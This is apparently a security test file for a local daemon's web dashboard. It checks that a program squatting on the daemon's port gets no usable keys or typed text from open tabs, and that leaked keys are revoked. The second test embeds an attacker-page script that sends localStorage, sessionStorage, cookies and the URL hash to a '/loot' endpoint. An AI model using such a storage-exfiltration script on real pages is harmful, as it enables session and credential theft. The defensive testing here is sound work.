import type { Browser, Page } from "playwright-core"
import { afterAll, afterEach, beforeAll, expect, test, vi } from "vitest"
import { openBrowser, openPage } from "../fixtures/browser.ts"
import { ask, dashboardAddress, keyOf, makeHome, type TestHome } from "../fixtures/daemon.ts"
import { freePort, type Squatter, squat } from "../fixtures/squatter.ts"

const SOON = { timeout: 60_000, interval: 50 }
let browser: Browser
let home: TestHome
let port: number
const open: Squatter[] = []
beforeAll(async () => {
  browser = await openBrowser()
  port = await freePort()
  home = makeHome({ THROUGHLINE_HTTP_PORT: String(port) })
  await home.run("start")
}, 240_000)
afterEach(async () => {
  for (const one of open.splice(0)) await one.close()
  home.env.THROUGHLINE_HTTP_PORT = String(port)
})
afterAll(async () => {
  await browser?.close()
  await home?.dispose()
})

const taking = async (request: Parameters<typeof squat>[0] = {}) => {
  const squatter = await squat({ port, ...request })
  open.push(squatter)
  return squatter
}
const isLive = (page: Page) => page.getByText("Live", { exact: true }).waitFor({ timeout: 60_000 })
const bearer = (key: string) => ({ authorization: `Bearer ${key}` })
const statusWith = async (key: string) =>
  (await ask(home, { path: "/api/config.show", body: "{}", headers: bearer(key) })).status

/** Everything that would make its holder the owner, or let it read. */
async function secrets(page: Page): Promise<string[]> {
  const kept = await page.evaluate<string | null>("localStorage.getItem('throughline.key')")
  return [home.ownerKey(), home.token(), kept!]
}

test("an open tab sends nothing to a program that takes the port, and reconnects to the daemon that returns", async () => {
  const { page } = await openPage(browser, home, "/search")
  await isLive(page)
  const known = await secrets(page)
  await home.run("stop")
  // The page has noticed, which takes it milliseconds: see docs/security.md for what remains.
  await page.getByText("Live", { exact: true }).waitFor({ state: "hidden" })
  const squatter = await taking()
  // A person notices nothing yet, and types.
  await page.locator("input[type=search]").first().fill("private-words-of-mine")
  await vi.waitFor(
    () => expect(squatter.heard.filter((one) => one.startsWith("POST /hello")).length).toBeGreaterThan(2),
    SOON,
  )
  for (const one of squatter.heard) {
    expect(one).not.toMatch(/authorization/i)
    expect(one).not.toContain("private-words-of-mine")
    for (const secret of known) expect(one).not.toContain(secret)
    expect(one).toMatch(/^(POST \/hello|GET \/icon\.svg)/)
  }
  await squatter.close()
  open.length = 0
  await home.run("start")
  await isLive(page)
  const renewed = await page.evaluate<string>("localStorage.getItem('throughline.key')")
  expect(known).not.toContain(renewed)
  expect(await statusWith(renewed)).toBe(200)
  expect(await statusWith(known[2]!)).toBe(401)
  await page.context().close()
}, 240_000)

test("a page that such a program serves finds only a key that opens nothing any more", async () => {
  const { page } = await openPage(browser, home)
  await isLive(page)
  await home.run("stop")
  // The attacker's page has our origin, and so all that a browser keeps for it.
  const script = `fetch("/loot", { method: "POST", body: JSON.stringify({ ...localStorage, ...sessionStorage, cookie: document.cookie, hash: location.hash }) })`
  const squatter = await taking({ page: `<!doctype html><script>${script}</script>` })
  await page.reload()
  await vi.waitFor(() => expect(squatter.heard.some((one) => one.startsWith("POST /loot"))).toBe(true), SOON)
  const loot = squatter.heard.find((one) => one.startsWith("POST /loot"))!
  const stolen = (JSON.parse(loot.slice(loot.lastIndexOf("\n") + 1)) as Record<string, string>)["throughline.key"]!
  expect(loot).not.toContain(home.ownerKey())
  await squatter.close()
  open.length = 0
  await home.run("start")
  expect(await statusWith(stolen)).toBe(401)
  expect(await statusWith(keyOf(await dashboardAddress(home)))).toBe(200)
  await page.context().close()
}, 240_000)

test("one that passes an open tab's words on to the daemon at its new port gets no key", async () => {
  const { page } = await openPage(browser, home)
  await isLive(page)
  await home.run("stop")
  const elsewhere = await freePort()
  const squatter = await taking({ relayTo: () => elsewhere })
  home.env.THROUGHLINE_HTTP_PORT = String(elsewhere)
  await home.run("start")
  const current = keyOf(await dashboardAddress(home))
  await vi.waitFor(() => expect(squatter.heard.some((one) => /^ANSWER \/hello 403/.test(one))).toBe(true), SOON)
  expect(squatter.heard.filter((one) => one.includes(current) || /authorization/i.test(one))).toEqual([])
  await home.run("stop")
  await page.context().close()
}, 240_000)
